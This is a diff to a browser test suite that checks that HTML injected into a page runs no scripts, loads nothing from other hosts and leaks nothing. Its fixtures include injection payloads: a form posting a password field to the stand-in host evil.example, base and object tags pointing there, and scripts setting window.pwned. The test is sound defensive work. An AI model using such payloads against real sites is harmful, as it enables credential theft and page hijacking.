@@ -21,8 +21,8 @@ test("markup that got into a page runs nothing, loads nothing of others and lead
 		'<form id="out" action="https://evil.example/"><input name="password" value="x"></form>',
 		'<base href="https://evil.example/">',
 		'<object data="https://evil.example/x"></object>',
-		// The policy trusts this script, which moves what is before it.
-		'<p data-part="x" data-state="pending"></p><p data-part="y" data-state="pending"></p>',
+		// The policy trusts this script. At its first run it notes the page, then it moves late parts.
+		`<p data-part="x" data-state="pending"></p><p data-part="y" data-state="pending"></p><script>${LATE_SCRIPT}</script>`,
 		`<div data-late><p data-part="x"><script>window.pwned = 1</script></p></div><script>${LATE_SCRIPT}</script>`,
 		`<template data-late><p data-part="y"><script>window.pwned = 1</script></p></template><script>${LATE_SCRIPT}</script>`,
 		'<style>body { display: none }</style><p id="shown" style="display: none">x</p>',
@@ -30,6 +30,7 @@ test("markup that got into a page runs nothing, loads nothing of others and lead
 	await rewrite(page, `${HOME}/about`, (html) => html.replace('<main id="content"', `${injected}$&`));
 	await page.goto(`${HOME}/about`);
 	await expect(page.locator("#shown")).toBeVisible();
+	await expect(page.locator("[data-part=x]:not([data-state])"), "moved").toHaveCount(1);
 	await page.locator("#js").click();
 	await page.locator("#out").evaluate((form: HTMLFormElement) => form.submit());
 	expect(await page.evaluate(() => document.baseURI)).toBe(page.url());
